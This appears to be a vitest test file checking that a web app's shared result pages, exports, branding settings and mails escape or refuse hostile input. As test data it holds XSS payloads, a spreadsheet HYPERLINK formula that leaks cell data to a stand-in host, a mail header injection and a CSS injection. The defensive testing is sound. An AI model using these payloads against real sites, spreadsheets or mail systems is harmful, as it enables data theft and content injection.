// Shared results and their branding: what people without an account see, download and receive by mail, and who is refused.
import { brandAnswerSchema, shareSchema, type Evidence, type Share } from '@quarry/contract'
import { readXlsx } from 'hucre/xlsx'
import { sql } from 'kysely'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { z } from 'zod'
import { makeJobPayload } from '../../testing/factories.ts'
import { completeTask } from '../../testing/finish-job.ts'
import { SMALL_PNG } from '../../testing/small-picture.ts'
import { createTestApp, type SignedIn, type TestApp } from '../../testing/test-app.ts'

let test: TestApp
beforeAll(async () => {
  test = await createTestApp({ environment: { QUARRY_PUBLIC_URL: 'https://quarry.example' } })
})
afterAll(() => test.close())

const BRAND = { name: 'Acme <Data>', color: '#AA3300', reply_to: 'desk@acme.example' }

async function runJob(user: SignedIn): Promise<string> {
  const { id } = (await user.call('POST', '/jobs/', makeJobPayload())).json()
  await completeTask(test.database.db, id, { position: 0, data: { title: '<script>alert(1)</script>', price: 12.5 } })
  return id
}
async function share(user: SignedIn, jobId: string): Promise<Share> {
  const answer = await user.call('POST', `/jobs/${jobId}/shares`)
  expect(answer.statusCode, answer.body).toBe(201)
  return shareSchema.parse(answer.json())
}
const visit = (url: string, more = '') => test.app.inject(new URL(url).pathname + more)
const putLogo = (user: SignedIn, payload: Buffer, type = 'image/png') =>
  test.app.inject({
    method: 'PUT',
    url: '/api/v1/account/brand/logo',
    headers: { authorization: `Bearer ${user.token}`, 'content-type': type },
    payload,
  })
async function branded(): Promise<SignedIn> {
  const user = await test.signIn('pro')
  expect((await user.call('PUT', '/account/brand', BRAND)).statusCode).toBe(200)
  expect((await putLogo(user, SMALL_PNG)).statusCode).toBe(200)
  return user
}
const setPlan = (user: SignedIn, plan: 'starter' | 'pro') =>
  sql`update accounts set plan = ${plan} where id = ${user.actor.accountId}`.execute(test.database.db)
const mailTo = async (address: string) => {
  const { rows } = await sql<{ subject: string; text: string; html: string; sender: string | null; reply_to: string | null }>`
    select subject, text, html, sender, reply_to from mail_outbox where recipient = ${address}`.execute(test.database.db)
  return rows
}

describe('shared results', () => {
  it('are readable by anybody with the link until it is ended; they run no scripts and reveal nothing else', async () => {
    const user = await test.signIn('starter')
    const jobId = await runJob(user)
    const { id, url } = await share(user, jobId)
    expect(url).toBe(`https://quarry.example/s/${id}`)
    const page = await visit(url)
    expect(page.statusCode).toBe(200)
    expect(page.body).toContain('&lt;script&gt;alert(1)&lt;/script&gt;')
    expect(page.body).not.toContain('<script')
    expect(page.body).toContain('<strong>Quarry</strong>')
    expect(page.body).not.toContain(user.actor.email)
    expect(page.headers).toMatchObject({ 'x-robots-tag': 'noindex', 'referrer-policy': 'no-referrer', 'cache-control': 'no-store' })
    expect(page.headers['content-security-policy']).toMatch(/^default-src 'none'; style-src 'sha256-[^']+'; img-src data:;/)
    expect((await visit(url, '/results?format=csv')).body).toContain('12.5')
    expect(z.array(shareSchema).parse((await user.call('GET', `/jobs/${jobId}/shares`)).json())).toHaveLength(1)
    expect((await user.call('DELETE', `/jobs/${jobId}/shares/${id}`)).statusCode).toBe(204)
    for (const more of ['', '/results?format=csv', '/report']) expect((await visit(url, more)).statusCode).toBe(404)
    for (const guess of ['nonsense', '%00'.repeat(24), 'x'.repeat(24)])
      expect([guess, (await visit(`https://quarry.example/s/${guess}`)).statusCode]).toEqual([guess, 404])
  })

  it('that are ended are reported on a page to a browser, as JSON to a program, and are never cached', async () => {
    const user = await test.signIn('starter')
    const { id, url } = await share(user, await runJob(user))
    for (const more of ['', '/results', '/results?format=xlsx', '/report'])
      expect([more, (await visit(url, more)).headers['cache-control']]).toEqual([more, 'no-store'])
    await user.call('DELETE', `/jobs/${(await user.call('GET', '/jobs/')).json().data[0].id}/shares/${id}`)
    for (const more of ['', '/results', '/report']) {
      const accept = 'text/html,application/xhtml+xml,*/*;q=0.8'
      const page = await test.app.inject({ url: new URL(url).pathname + more, headers: { accept } })
      expect([page.statusCode, page.headers['content-type'], page.headers['cache-control']]).toEqual([
        404,
        'text/html; charset=utf-8',
        'no-store',
      ])
      expect(page.body).toContain('These results are not shared any more.')
      // The link may belong to another brand.
      expect(page.body).not.toContain('Quarry')
      expect((await visit(url, more)).json()).toEqual({ detail: 'These results are not shared any more.' })
    }
  })

  it('come as CSV that no spreadsheet program computes, whatever the pages said', async () => {
    const user = await test.signIn('starter')
    const { id: jobId } = (await user.call('POST', '/jobs/', makeJobPayload())).json()
    const title = '=HYPERLINK("https://bad.example/?"&A2,"Open")'
    await completeTask(test.database.db, jobId, { position: 0, data: { title, price: -12.5 } })
    const { url } = await share(user, jobId)
    for (const address of ['/results', '/results?format=csv']) {
      const { body, headers } = await visit(url, address)
      expect(body.startsWith('\uFEFF')).toBe(true)
      expect(body).toContain(`"'${title.replaceAll('"', '""')}"`)
      expect(body).toMatch(/,-12\.5(?:,|\r|$)/)
      expect(headers['content-disposition']).toBe('attachment; filename="results-spreadsheet.csv"')
    }
  })

  it('have the same JSON as exports; an unknown format is named in the refusal', async () => {
    const user = await test.signIn('starter')
    const { url } = await share(user, await runJob(user))
    const answer = await visit(url, '/results?format=json')
    expect(answer.headers['content-disposition']).toBe('attachment; filename="results.json"')
    const target_item_value = makeJobPayload().target_items[0]
    expect(answer.json()).toEqual([{ target_item_value, data: { title: '<script>alert(1)</script>', price: 12.5 } }])
    for (const format of ['nonsense', 'parquet', '']) {
      const refused = await visit(url, `/results?format=${format}`)
      expect([refused.statusCode, refused.json()]).toEqual([422, { detail: 'The format is one of csv, xlsx, json.' }])
    }
  })

  it('answer a HEAD request without a body', async () => {
    const user = await test.signIn('starter')
    const { id, url } = await share(user, await runJob(user))
    const look = async (more: string) => {
      const answer = await test.app.inject({ method: 'HEAD', url: new URL(url).pathname + more })
      return [more, answer.statusCode, answer.headers['content-type'], answer.body]
    }
    expect(await look('')).toEqual(['', 200, 'text/html; charset=utf-8', ''])
    expect(await look('/results?format=json')).toEqual(['/results?format=json', 200, 'application/json; charset=utf-8', ''])
    expect(await look('/report')).toEqual(['/report', 200, 'text/html; charset=utf-8', ''])
    await user.call('DELETE', `/jobs/${(await user.call('GET', '/jobs/')).json().data[0].id}/shares/${id}`)
    for (const more of ['', '/results', '/report']) expect((await look(more)).slice(0, 2)).toEqual([more, 404])
  })

  it('show numbers and addresses as a table does: points below each other, thousands apart, addresses as links', async () => {
    const user = await test.signIn('starter')
    const target_items = ['https://shop.example/a', 'https://shop.example/b', 'A name']
    const { id: jobId } = (await user.call('POST', '/jobs/', makeJobPayload({ target_items }))).json()
    const { db } = test.database
    await completeTask(db, jobId, { position: 0, data: { title: 'https://shop.example/"b".png', price: 1234.5 } })
    await completeTask(db, jobId, { position: 1, data: { title: 'javascript:alert(1)', price: 12 } })
    await completeTask(db, jobId, { position: 2, data: { title: null, price: null } })
    const { url } = await share(user, jobId)
    const { body } = await visit(url)
    expect(body).toContain('<th scope="col" class="number">price</th>')
    expect(body).toContain('<td class="number"><div>1,234.5\u00A0<details class="source"')
    expect(body).toContain('<td class="number"><div>12<span class="room" aria-hidden="true">.0</span>\u00A0<details')
    expect(body).toContain('<td class="number"></td>')
    expect(body).toContain('href="https://shop.example/a"')
    expect(body).toContain('href="https://shop.example/&quot;b&quot;.png"')
    expect(body).not.toContain('href="javascript')
  })

  it('show the quote that a value rests on among what stands around it, as text, and the page', async () => {
    const user = await test.signIn('starter')
    const { id: jobId } = (await user.call('POST', '/jobs/', makeJobPayload({ target_items: ['old', 'new', 'odd'] }))).json()
    const evidence = { url: 'https://one.example/1', snapshot: null, block: 1, quote: 'Norvik', selector: 'p' }
    const context = { heading: '<b>Facts</b>', label: 'Maker', before: 'by ', after: ' of Malmö' }
    const complete = (position: number, given: Evidence) =>
      completeTask(test.database.db, jobId, { position, data: { title: 'Norvik' }, evidence: given })
    await complete(0, evidence)
    await complete(1, { ...evidence, context })
    await complete(2, { ...evidence, url: 'javascript:alert(1)' })
    const { body } = await visit((await share(user, jobId)).url)
    expect(body).toContain('<blockquote><bdi><mark><bdi>Norvik</bdi></mark></bdi></blockquote>')
    expect(body).toContain('<bdi>&lt;b&gt;Facts&lt;/b&gt;</bdi>')
    expect(body).toContain('<bdi>Maker</bdi>: <bdi>by <mark><bdi>Norvik</bdi></mark> of Malmö</bdi></blockquote>')
    expect(body).toContain('<a href="https://one.example/1" rel="noopener noreferrer nofollow">')
    expect(body).not.toContain('href="javascript')
  })

  it('that are many are turned over page by page, there and back', async () => {
    const user = await test.signIn('pro')
    const target_items = Array.from({ length: 201 }, (_, n) => `https://shop.example/${n}`)
    const { id: jobId } = (await user.call('POST', '/jobs/', makeJobPayload({ target_items }))).json()
    for (const position of target_items.keys())
      await completeTask(test.database.db, jobId, { position, data: { title: `Thing ${position}.`, price: 1 } })
    const { url } = await share(user, jobId)
    const first = (await visit(url)).body
    expect(first).toContain('Thing 199.')
    expect(first).not.toContain('Thing 200.')
    expect(first).not.toContain('First rows')
    const more = /href="[^"]*(\?after=\d+)">More rows/.exec(first)?.[1]
    const last = (await visit(url, more)).body
    expect(last).toContain('Thing 200.')
    expect(last).toContain(`<a href="${new URL(url).pathname}">First rows</a>`)
    expect(last).not.toContain('More rows')
  })

  it('end by themselves after the days they were made for, for everybody and in the list', async () => {
    const user = await test.signIn('starter')
    const jobId = await runJob(user)
    const made = await user.call('POST', `/jobs/${jobId}/shares`, { days: 7 })
    const { id, url, expires_at: end } = shareSchema.parse(made.json())
    const days = (Date.parse(end ?? '') - Date.parse(made.json().created_at)) / 86_400_000
    expect(days).toBeCloseTo(7, 1)
    expect((await visit(url)).statusCode).toBe(200)
    await sql`update job_shares set expires_at = clock_timestamp() - interval '1 second' where id = ${id}`.execute(test.database.db)
    for (const more of ['', '/results?format=csv', '/report']) expect((await visit(url, more)).statusCode).toBe(404)
    expect((await user.call('GET', `/jobs/${jobId}/shares`)).json()).toEqual([])
    expect((await user.call('POST', `/jobs/${jobId}/shares/${id}/mails`, { to: 'a@example.com' })).statusCode).toBe(404)
    for (const wrong of [0, 366, 1.5, 'soon']) {
      expect([wrong, (await user.call('POST', `/jobs/${jobId}/shares`, { days: wrong })).statusCode]).toEqual([wrong, 422])
    }
    expect((await share(user, jobId)).expires_at).toBe(null)
  })

  it('end with their job, and are limited', async () => {
    const user = await test.signIn('starter')
    const jobId = await runJob(user)
    const { url } = await share(user, jobId)
    const made = await Promise.all(Array.from({ length: 24 }, () => user.call('POST', `/jobs/${jobId}/shares`)))
    expect(made.map(({ statusCode }) => statusCode).sort()).toEqual([...Array<number>(19).fill(201), ...Array<number>(5).fill(409)])
    expect((await user.call('POST', `/jobs/${jobId}/shares`)).statusCode).toBe(409)
    await user.call('DELETE', `/jobs/${jobId}`)
    expect((await visit(url)).statusCode).toBe(404)
  })

  it('of others are neither listed, made, mailed nor ended', async () => {
    const [user, stranger] = [await test.signIn(), await test.signIn()]
    const jobId = await runJob(user)
    const { id, url } = await share(user, jobId)
    expect((await stranger.call('GET', `/jobs/${jobId}/shares`)).statusCode).toBe(404)
    expect((await stranger.call('POST', `/jobs/${jobId}/shares`)).statusCode).toBe(404)
    expect((await stranger.call('DELETE', `/jobs/${jobId}/shares/${id}`)).statusCode).toBe(404)
    expect((await stranger.call('POST', `/jobs/${jobId}/shares/${id}/mails`, { to: 'a@example.com' })).statusCode).toBe(404)
    const own = await runJob(stranger)
    expect((await stranger.call('DELETE', `/jobs/${own}/shares/${id}`)).statusCode).toBe(404)
    expect((await visit(url)).statusCode).toBe(200)
  })
})

describe('white-label', () => {
  it('[S9.38] puts name, logo and colour on shared pages, reports and files, and the product’s name nowhere (O.80)', async () => {
    const user = await branded()
    const { url } = await share(user, await runJob(user))
    for (const more of ['', '/report']) {
      const { body } = await visit(url, more)
      expect(body).toContain('<strong>Acme &lt;Data&gt;</strong>')
      expect(body).toContain(`<img src="data:image/png;base64,${SMALL_PNG.toString('base64')}"`)
      expect(body).toContain('border-bottom: 4px solid #aa3300')
      expect(body).not.toMatch(/quarry/i)
    }
    const book = await readXlsx((await visit(url, '/results?format=xlsx')).rawPayload)
    expect(book.sheets.map(({ name }) => name)).toEqual(['Acme <Data>'])
  })

  it('[S9.38] sends mails under the brand’s name, answered at its address (O.80)', async () => {
    const user = await branded()
    const jobId = await runJob(user)
    const { id, url } = await share(user, jobId)
    expect((await user.call('POST', `/jobs/${jobId}/shares/${id}/mails`, { to: 'reader@example.com' })).statusCode).toBe(202)
    const [mail] = await mailTo('reader@example.com')
    expect(mail).toMatchObject({ subject: 'Results from Acme <Data>', sender: 'Acme <Data>', reply_to: 'desk@acme.example' })
    expect(mail?.text).toContain(url)
    expect(`${mail?.text}${mail?.html}`.replaceAll(url, '')).not.toMatch(/quarry/i)
    expect(mail?.html).toContain('Acme &lt;Data&gt; shares results with you.')
  })

  it('[S9.38] is refused to other plans in one sentence, and not used once the plan has ended', async () => {
    const advanced = await test.signIn('advanced')
    const refused = [await advanced.call('PUT', '/account/brand', BRAND), await putLogo(advanced, SMALL_PNG)]
    for (const answer of refused) {
      expect([answer.statusCode, answer.json().detail]).toEqual([403, 'White-label comes with the plan Pro. Upgrade to use it.'])
    }
    const user = await branded()
    const { url } = await share(user, await runJob(user))
    await setPlan(user, 'starter')
    expect((await visit(url)).body).toContain('<strong>Quarry</strong>')
    expect(brandAnswerSchema.parse((await user.call('GET', '/account/brand')).json())).toMatchObject({
      is_used: false,
      brand: { name: BRAND.name },
    })
    await setPlan(user, 'pro')
    expect((await visit(url)).body).toContain('Acme')
    expect((await user.call('DELETE', '/account/brand')).json()).toEqual({ brand: null, is_used: true })
    expect((await visit(url)).body).toContain('<strong>Quarry</strong>')
  })

  it.each([
    ['a name of two lines', { name: 'a\nBcc: b@example.com' }],
    ['no name', { name: ' ' }],
    ['a colour that is more than one', { color: '#fff; } body { display: none' }],
    ['an address that is none', { reply_to: 'nowhere' }],
  ])('refuses %s', async (_what, change) => {
    const user = await test.signIn('pro')
    expect((await user.call('PUT', '/account/brand', { ...BRAND, ...change })).statusCode).toBe(422)
  })

  it('takes pictures only as a logo, and only with a name', async () => {
    const user = await test.signIn('pro')
    expect((await putLogo(user, SMALL_PNG)).statusCode).toBe(409)
    await user.call('PUT', '/account/brand', BRAND)
    expect((await putLogo(user, Buffer.from('<svg onload=alert(1)>'))).statusCode).toBe(422)
    expect((await putLogo(user, Buffer.alloc(600_000))).statusCode).toBe(413)
    expect((await putLogo(user, SMALL_PNG)).json().brand.logo).toMatch(/^data:image\/png;base64,/)
    expect((await user.call('DELETE', '/account/brand/logo')).json().brand).toEqual({ ...BRAND, color: '#aa3300', logo: null })
  })
})
